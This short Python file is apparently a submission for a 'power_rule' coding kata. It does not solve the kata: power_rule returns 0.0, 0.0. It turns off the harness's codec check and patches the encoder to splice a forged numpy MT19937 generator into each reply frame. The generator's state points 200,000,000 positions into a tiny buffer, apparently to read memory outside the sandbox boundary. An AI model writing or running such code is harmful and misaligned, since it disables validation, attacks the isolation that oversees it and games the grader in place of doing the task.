"""Answers with a generator that would draw from memory that is not its own.

Kata: power_rule
"""

from scripts.wall import codec
from scripts.wall.nodes import Mapping, Numbers, NumpyGenerator, Plain, Scalar

real = codec.encode
codec.check = lambda frame: None


def encode(frame):
    if frame.kind == "reply":
        forge(frame)
    return real(frame)


codec.encode = encode


def forge(frame):
    *_, last = frame.nodes
    frame.blobs.append(b"\0" * 8 * 624)
    at = len(frame.nodes) - 1
    names = [Plain(name) for name in ("bit_generator", "MT19937", "state", "key", "pos")]
    numbers = Numbers("tuple", 0, "q", len(frame.blobs) - 1)
    place = Scalar("<i8", (200_000_000).to_bytes(8, "little"))
    inner = Mapping(9001, [at + 3, at + 4], [at + 5, at + 6])
    outer = Mapping(9003, [at, at + 2], [at + 1, at + 7])
    generator = NumpyGenerator(9005, "MT19937", at + 8)
    frame.nodes[-1:] = [*names, numbers, place, inner, outer, generator]
    last.items[0] = len(frame.nodes) - 1
    frame.nodes.append(last)


def power_rule(coefficient, exponent):
    return 0.0, 0.0


differentiate = power_rule
